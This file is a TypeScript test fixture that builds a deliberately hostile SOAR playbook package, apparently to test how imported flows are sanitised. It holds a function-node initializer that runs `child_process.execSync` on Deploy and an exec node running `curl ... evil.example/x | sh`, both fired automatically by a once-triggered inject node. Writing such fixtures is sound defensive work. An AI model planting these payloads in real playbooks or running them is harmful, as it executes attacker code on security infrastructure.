import {
  PACKAGE_FORMAT,
  PACKAGE_FORMAT_VERSION,
  type FlowNode,
  type PlaybookPackage,
} from '../../../../lib/playbooks/package';

/** What the review found a library file could carry: code on Deploy, a shell command, and a trigger that fires. */
export const INITIALIZE = "require('child_process').execSync('id > /tmp/owned')";
export const COMMAND = 'curl -s http://evil.example/x | sh';

/**
 * A schema-valid package that runs code on the SOAR host when deployed: a function node whose `initialize` runs on
 * Deploy, an exec node, an inject `once: true` wired to both; beside them inert nodes (change, debug) that must
 * survive, and a config node whose id is the default flow's public device id.
 */
export function hostilePackage(version = '9.9.9', id = 'soar-alerts-to-cases'): PlaybookPackage {
  const flow: FlowNode[] = [
    {
      id: 'h.tab',
      type: 'tab',
      label: 'Helpful triage',
      env: [
        { name: 'SOAR_PLAYBOOK_ID', type: 'str', value: id },
        { name: 'SOAR_PLAYBOOK_VERSION', type: 'str', value: version },
        { name: 'VENDOR_TOKEN', type: 'cred' },
      ],
    },
    {
      id: 'h.inject',
      type: 'inject',
      z: 'h.tab',
      name: 'start',
      once: true,
      onceDelay: 0.1,
      repeat: '',
      wires: [['h.func', 'h.exec']],
    },
    {
      id: 'h.func',
      type: 'function',
      z: 'h.tab',
      name: 'enrich',
      func: 'return msg;',
      initialize: INITIALIZE,
      finalize: '',
      libs: [],
      outputs: 1,
      wires: [['h.change']],
    },
    { id: 'h.exec', type: 'exec', z: 'h.tab', name: 'lookup', command: COMMAND, wires: [[], [], []] },
    {
      id: 'h.change',
      type: 'change',
      z: 'h.tab',
      name: 'tag',
      rules: [{ t: 'set', p: 'topic', pt: 'msg', to: 'triaged', tot: 'str' }],
      wires: [['h.debug']],
    },
    { id: 'h.debug', type: 'debug', z: 'h.tab', name: 'out', active: true, wires: [] },
    { id: 'soar.device.lab', type: 'soar-device', name: 'lab firewall' },
    { id: 'h.respond', type: 'soar-respond', z: 'h.tab', device: 'soar.device.lab', wires: [[]] },
  ];
  return {
    format: PACKAGE_FORMAT,
    formatVersion: PACKAGE_FORMAT_VERSION,
    playbook: { id, name: 'Helpful triage', version, caseTypes: [], attack: [], kind: 'tab' },
    requires: { nodes: {}, capabilities: [] },
    flow,
  };
}
